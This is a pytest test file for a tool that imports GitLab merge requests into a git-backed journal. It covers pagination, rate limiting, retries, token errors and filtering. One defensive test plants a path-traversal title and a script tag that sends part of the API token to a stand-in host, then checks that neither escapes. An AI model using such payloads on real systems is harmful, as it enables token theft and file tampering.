"""``brag import gitlab`` against a real HTTP server speaking GitLab's REST API v4."""

from __future__ import annotations

import datetime as dt
import shutil

import pytest
from fakeapis import FakeGitLab, entries, head, load, record_waits

TOKEN = "glpat-test-SECRET456"
D = dt.date


@pytest.fixture
def waits(monkeypatch) -> list[float]:
    return record_waits(monkeypatch)


@pytest.fixture
def gitlab(httpserver, monkeypatch, waits) -> FakeGitLab:
    monkeypatch.setenv("GITLAB_TOKEN", TOKEN)
    monkeypatch.setenv("BRAG_HTTP_BACKOFF", "0.01")
    monkeypatch.setenv("BRAG_HTTP_MAX_WAIT", "5")
    return FakeGitLab(token=TOKEN).register(httpserver)


@pytest.fixture
def api(httpserver) -> str:
    return httpserver.url_for("/api/v4")


def window(*extra: str) -> tuple[str, ...]:
    return ("--since", "2026-01-01", "--until", "2026-03-31", *extra)


def test_imports_merged_mrs_following_x_next_page(brag, journal, gitlab, api, git_run):
    gitlab.add(
        "acme/platform/api",
        45,
        "Shard the jobs table",
        D(2026, 2, 3),
        description="**Impact:** nightly batch finishes 3 h earlier.\n\nDetails below.",
        labels=["database", "backend"],
    )
    for n in range(1, 230):
        gitlab.add("acme/web", n, f"Polish screen {n}", D(2026, 1, 1) + dt.timedelta(days=n % 80))
    result = brag("import", "gitlab", "--api-url", api, *window())
    assert "gitlab: added 230, already present 0, skipped 0" in result.output
    pages = [r.get("page", "1") for r in gitlab.requests]
    assert pages == ["1", "2", "3"]
    first = gitlab.requests[0]
    assert first["scope"] == "all" and first["state"] == "merged"
    assert first["author_username"] == "jdoe"  # from GET /user
    assert first["updated_after"].startswith("2026-01-01T00:00:00")
    assert git_run(journal.root, "log", "-1", "--format=%s").strip() == (
        "brag: import 230 entries from gitlab"
    )
    e = load(journal)["acme/platform/api!45"]
    assert e.title == "Shard the jobs table"
    assert e.date == D(2026, 2, 3)
    assert e.tags == ["api", "database", "backend"]
    assert e.impact == "nightly batch finishes 3 h earlier."
    assert e.url == "https://gitlab.example.com/acme/platform/api/-/merge_requests/45"
    assert e.source == "gitlab"


def test_merged_outside_the_window_is_left_out(brag, journal, gitlab, api):
    # Updated in the window (a late comment), merged long before it.
    gitlab.add("acme/web", 1, "Old", D(2025, 6, 1), updated=D(2026, 2, 1))
    gitlab.add("acme/web", 2, "New", D(2026, 2, 1))
    brag("import", "gitlab", "--api-url", api, *window())
    assert set(load(journal)) == {"acme/web!2"}


def test_empty_result(brag, journal, gitlab, api):
    result = brag("import", "gitlab", "--api-url", api, *window())
    assert "gitlab: added 0, already present 0, skipped 0" in result.output
    assert entries(journal.root) == []


def test_rate_limit_429_with_retry_after(brag, journal, gitlab, api, httpserver, waits):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    httpserver.expect_oneshot_request("/api/v4/merge_requests").respond_with_data(
        "Retry later",
        status=429,
        headers={
            "Retry-After": "1",
            "RateLimit-Limit": "600",
            "RateLimit-Observed": "601",
            "RateLimit-Remaining": "0",
            "RateLimit-Name": "throttle_authenticated_api",
        },
    )
    result = brag("import", "gitlab", "--api-url", api, *window())
    assert "GitLab: rate limited (HTTP 429); waiting 1 s" in result.stderr
    assert waits == [1.0]
    assert set(load(journal)) == {"acme/web!1"}


def test_502_then_success(brag, journal, gitlab, api, httpserver):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    httpserver.expect_oneshot_request("/api/v4/merge_requests").respond_with_data(
        "502 Bad Gateway", status=502
    )
    result = brag("import", "gitlab", "--api-url", api, "--user", "jdoe", *window())
    assert "GitLab: /api/v4/merge_requests?" in result.stderr and "HTTP 502; retrying" in (
        result.stderr
    )
    assert set(load(journal)) == {"acme/web!1"}


def test_malformed_json_commits_nothing(brag, journal, gitlab, api, httpserver, git_run):
    for n in range(1, 150):
        gitlab.add("acme/web", n, f"MR {n}", D(2026, 2, 1))
    before = head(git_run, journal.root)
    httpserver.expect_ordered_request("/api/v4/merge_requests").respond_with_handler(gitlab.list)
    httpserver.expect_ordered_request("/api/v4/merge_requests").respond_with_data(
        '[{"id": 1, "iid": ', content_type="application/json"
    )
    result = brag("import", "gitlab", "--api-url", api, "--user", "jdoe", *window(), expect=1)
    assert "body that is not valid JSON; nothing was imported" in result.output
    assert "Traceback" not in result.output
    assert head(git_run, journal.root) == before
    assert entries(journal.root) == []


def test_revoked_token(brag, journal, gitlab, api, monkeypatch, git_run):
    before = head(git_run, journal.root)
    monkeypatch.setenv("GITLAB_TOKEN", "glpat-test-EXPIRED000")
    result = brag("import", "gitlab", "--api-url", api, expect=1)
    assert result.output.strip().splitlines()[-1] == (
        "Error: GitLab: the token was rejected (HTTP 401): token revoked or invalid; "
        "check GITLAB_TOKEN (it may have expired)"
    )
    assert head(git_run, journal.root) == before


def test_missing_token(brag, journal, api, monkeypatch):
    monkeypatch.delenv("GITLAB_TOKEN", raising=False)
    result = brag("import", "gitlab", "--api-url", api, expect=1)
    assert "Error: GitLab: no token found: set GITLAB_TOKEN" in result.output


def test_rerun_and_user_edits(brag, journal, gitlab, api, git_run):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    gitlab.add("acme/web", 2, "Two", D(2026, 2, 2))
    brag("import", "gitlab", "--api-url", api, *window())
    edited = load(journal)["acme/web!1"]
    brag("edit", edited.id, "--title", "Rewrote checkout")
    commits = git_run(journal.root, "rev-list", "--count", "HEAD")
    result = brag("import", "gitlab", "--api-url", api, *window())
    assert "gitlab: added 0, already present 2" in result.output
    assert load(journal)["acme/web!1"].title == "Rewrote checkout"
    assert len(entries(journal.root)) == 2
    assert git_run(journal.root, "rev-list", "--count", "HEAD") == commits


def test_dry_run_writes_nothing(brag, journal, gitlab, api, git_run):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    before = head(git_run, journal.root)
    result = brag("import", "gitlab", "--api-url", api, *window("--dry-run"))
    assert "gitlab: would add 1" in result.output
    assert head(git_run, journal.root) == before and entries(journal.root) == []


def test_resume_from_last_run(brag, journal, gitlab, api):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    brag("import", "gitlab", "--api-url", api, "--since", "2026-01-01", "--until", "2026-02-15")
    gitlab.add("acme/web", 2, "Two", D(2026, 3, 1))
    result = brag("import", "gitlab", "--api-url", api)
    assert gitlab.requests[-1]["updated_after"].startswith("2026-02-14T00:00:00")
    assert "added 1" in result.output
    assert set(load(journal)) == {"acme/web!1", "acme/web!2"}


def test_projects_groups_and_labels(brag, journal, gitlab, api):
    gitlab.add("acme/api", 1, "Api", D(2026, 2, 1))
    gitlab.add("acme/web", 2, "Web", D(2026, 2, 1), labels=["chore"])
    gitlab.add("tools/cli", 3, "Cli", D(2026, 2, 1))
    gitlab.add("elsewhere/x", 4, "X", D(2026, 2, 1))
    result = brag(
        "import",
        "gitlab",
        "--api-url",
        api,
        *window("--repo", "tools/cli", "--org", "acme", "--exclude-label", "Chore"),
    )
    assert set(load(journal)) == {"acme/api!1", "tools/cli!3"}
    assert "skipped 1 (1 label 'chore' excluded)" in result.output
    paths = {r["path"] for r in gitlab.requests}
    assert paths == {
        "/api/v4/projects/tools%2Fcli/merge_requests",
        "/api/v4/groups/acme/merge_requests",
    }


def test_self_managed_host_alone_means_api_v4_and_config_is_read(brag, journal, gitlab, httpserver):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    brag("config", "set", "import.gitlab.api_url", httpserver.url_for("/").rstrip("/"))
    result = brag("import", "gitlab", *window())
    assert "gitlab: added 1" in result.output


def test_untrusted_text_and_token_stay_out(brag, journal, gitlab, api, git_run):
    gitlab.add(
        "acme/web",
        1,
        "../../../../tmp/evil",
        D(2026, 2, 1),
        description=f"<script>fetch('//x?{TOKEN[:6]}')</script>",
    )
    result = brag("import", "gitlab", "--api-url", api, *window())
    (path,) = entries(journal.root)
    assert path.resolve().is_relative_to((journal.root / "entries").resolve())
    assert load(journal)["acme/web!1"].title == "../../../../tmp/evil"
    for p in journal.root.rglob("*"):
        if p.is_file():
            assert TOKEN.encode() not in p.read_bytes()
    assert TOKEN not in git_run(journal.root, "log", "-p", "--all")
    assert TOKEN not in result.output + result.stderr


def test_brag_import_runs_every_configured_source_and_reports_each_failure(
    brag, journal, gitlab, api, monkeypatch, tmp_path, git_run
):
    gitlab.add("acme/web", 1, "One", D(2026, 2, 1))
    brag("config", "set", "import.gitlab.api_url", api)
    brag("config", "set", "import.github.user", "octocat")  # configured, but no token
    bindir = tmp_path / "only-git"  # git, but no gh CLI to lend a GitHub token
    bindir.mkdir()
    (bindir / "git").symlink_to(shutil.which("git"))
    monkeypatch.setenv("PATH", str(bindir))
    result = brag("import", *window(), expect=1)
    assert "github: failed: GitHub: no token found" in result.stderr
    assert "gitlab: added 1" in result.output
    assert set(load(journal)) == {"acme/web!1"}
